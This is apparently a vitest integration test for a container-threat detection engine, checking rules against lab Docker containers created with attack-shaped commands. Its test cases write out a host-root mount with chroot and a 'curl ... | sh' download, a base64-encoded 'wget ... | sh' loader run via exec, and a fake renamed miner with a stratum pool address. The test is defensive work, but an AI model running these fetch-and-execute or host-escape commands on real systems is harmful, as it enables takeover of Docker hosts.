// Detection against the real lab engine: harmless containers created with campaign-shaped commands (created,
// not started, unless said), read back with inspect/top/exec inspect, adapted and judged by the core rules.
import { readFileSync } from 'node:fs';
import { request } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { docker, engineGet, labFromEnv } from '../../lab/index.js';
import { detect, detectionInputFromInspect, execArgv, processesFromTop, type DetectionInput } from '../../../src/core/rules/index.js';
import { atLeast } from '../../../src/core/report/finding.js';

const lab = labFromEnv();
const created: string[] = [];
const LABEL = { 'pcl.area': 'rules' };

function engine(method: string, path: string, body?: unknown): Promise<{ status: number; json: unknown }> {
  return new Promise((resolve, reject) => {
    const data = body === undefined ? undefined : Buffer.from(JSON.stringify(body));
    const req = request({ socketPath: lab.socketPath, path, method, timeout: 30_000,
      headers: data ? { 'content-type': 'application/json', 'content-length': data.length } : {} }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => {
        const text = Buffer.concat(chunks).toString('utf8');
        resolve({ status: res.statusCode ?? 0, json: text ? JSON.parse(text) as unknown : undefined });
      });
    });
    req.on('error', reject);
    req.end(data);
  });
}

let seq = 0;
/** Create (not start) a container from a DetectionInput-shaped sample through the Engine API, as an attacker's client would. */
async function createFrom(input: DetectionInput, start = false): Promise<string> {
  const name = `pcl-rules-${process.pid}-${seq++}`;
  const body = {
    Image: 'alpine:latest', Entrypoint: input.entrypoint ?? undefined, Cmd: input.cmd ?? undefined, Env: input.env ?? undefined,
    Labels: LABEL, HostConfig: { Binds: input.binds ?? undefined, NetworkMode: 'none', Privileged: input.privileged ?? false },
  };
  const r = await engine('POST', `/containers/create?name=${name}`, body);
  expect(r.status, JSON.stringify(r.json)).toBe(201);
  const id = (r.json as { Id: string }).Id;
  created.push(id);
  if (start) expect((await engine('POST', `/containers/${id}/start`)).status).toBe(204);
  return id;
}

async function inspect(id: string): Promise<DetectionInput> {
  const r = await engineGet(lab.socketPath, `/containers/${id}/json`);
  expect(r.status).toBe(200);
  return detectionInputFromInspect(JSON.parse(r.body));
}

const fixtures = new URL('../../fixtures/detection/', import.meta.url);
type Sample = { name: string; input: DetectionInput; expect?: string[] };
const load = (f: string) => (JSON.parse(readFileSync(new URL(f, fixtures), 'utf8')) as Sample[])
  // container-shaped samples only (processes, uploads and execs are covered below); images are all local alpine here
  .filter((s) => !s.input.processes && !s.input.archiveMembers && !s.input.execCmds && !(s.expect ?? []).includes('PCL-MIN-006'));

describe('detection on real containers', () => {
  beforeAll(() => { expect(docker(lab, ['version', '--format', '{{.Server.APIVersion}}']).trim()).toMatch(/^1\.\d+$/); });
  afterAll(async () => {
    for (const id of created) await engine('DELETE', `/containers/${id}?force=1&v=1`);
  });

  it('flags the docker CLI campaign command (-v /:/mnt alpine chroot /mnt sh -c "curl ...|sh") from inspect', async () => {
    const name = `pcl-rules-${process.pid}-cli`;
    const id = docker(lab, ['create', '--name', name, '--label', 'pcl.area=rules', '--network', 'none', '-v', '/:/mnt', 'alpine:latest',
      'chroot', '/mnt', 'sh', '-c', 'curl -fsSL http://payload.example.invalid/d.sh | sh']).trim();
    created.push(id);
    const input = await inspect(id);
    expect(input.mounts).toEqual([expect.objectContaining({ source: '/', destination: '/mnt' })]);
    const f = detect(input);
    expect(f.map((x) => `${x.ruleId}:${x.severity}`)).toEqual(['PCL-TTP-001:critical', 'PCL-TTP-002:critical']);
    expect(f[0]!.target).toBe(name);
    expect(f[0]!.evidence.map((e) => e.location)).toEqual(['Mounts[0]', 'Config.Cmd[4]']);
  });

  it('raises every expected rule at high or critical for the malicious corpus', async () => {
    const samples = load('malicious.json');
    expect(samples.length).toBeGreaterThan(20);
    for (const s of samples) {
      const f = detect(await inspect(await createFrom(s.input)));
      for (const id of s.expect ?? []) {
        const hit = f.find((x) => x.ruleId === id);
        expect(hit, `${s.name}: ${id} missing from ${f.map((x) => x.ruleId).join(',')}`).toBeDefined();
        expect(atLeast(hit!.severity, 'high'), `${s.name}: ${id} is ${hit!.severity}`).toBe(true);
      }
    }
  });

  it('raises nothing above low for the benign corpus', async () => {
    const samples = load('benign.json');
    expect(samples.length).toBeGreaterThan(20);
    for (const s of samples) {
      const f = detect(await inspect(await createFrom(s.input)));
      expect(f.filter((x) => atLeast(x.severity, 'medium')).map((x) => `${s.name}: ${x.ruleId} ${x.message}`)).toEqual([]);
    }
  });

  it('catches a running renamed miner through /top samples', async () => {
    // A harmless script named like a miner and a kernel thread: it only sleeps; the engine has no network.
    const script = "printf '#!/bin/sh\\nsleep 300\\n' > /tmp/kswapd0; chmod +x /tmp/kswapd0; " +
      'exec /tmp/kswapd0 -o stratum+tcp://198.51.100.20:3333 --donate-level 1 -B';
    const id = await createFrom({ cmd: ['sh', '-c', script] }, true);
    let procs: ReturnType<typeof processesFromTop> = [];
    for (let i = 0; i < 50 && !procs.some((p) => p.cmd.includes('stratum')); i++) {
      const top = await engineGet(lab.socketPath, `/containers/${id}/top`);
      if (top.status === 200) procs = processesFromTop(JSON.parse(top.body));
      if (!procs.some((p) => p.cmd.includes('stratum'))) await new Promise((r) => setTimeout(r, 100));
    }
    const f = detect({ name: 'top-sample', processes: procs });
    const ids = f.filter((x) => atLeast(x.severity, 'high')).map((x) => x.ruleId);
    expect(ids).toEqual(expect.arrayContaining(['PCL-MIN-002', 'PCL-MIN-003', 'PCL-MIN-008']));
    expect(f.find((x) => x.ruleId === 'PCL-MIN-008')!.evidence[0]!.location).toMatch(/^top pid \d+$/);
  });

  it('judges an exec created (not started) in a running container from exec inspect', async () => {
    const id = await createFrom({ cmd: ['sleep', '300'] }, true);
    const payload = Buffer.from('wget -qO- http://198.51.100.12/ldr | sh').toString('base64');
    const ex = await engine('POST', `/containers/${id}/exec`, { Cmd: ['sh', '-c', `echo ${payload} | base64 -d | sh`] });
    expect(ex.status).toBe(201);
    const ei = await engineGet(lab.socketPath, `/exec/${(ex.json as { Id: string }).Id}/json`);
    const argv = execArgv(JSON.parse(ei.body));
    expect(argv[0]).toBe('sh');
    const f = detect({ name: 'exec', execCmds: [argv] });
    expect(f.map((x) => `${x.ruleId}:${x.severity}`)).toEqual(['PCL-TTP-002:high', 'PCL-TTP-011:high']);
    expect(f[0]!.evidence[0]!.location).toBe('exec[0] (decoded payload)');
  });
});
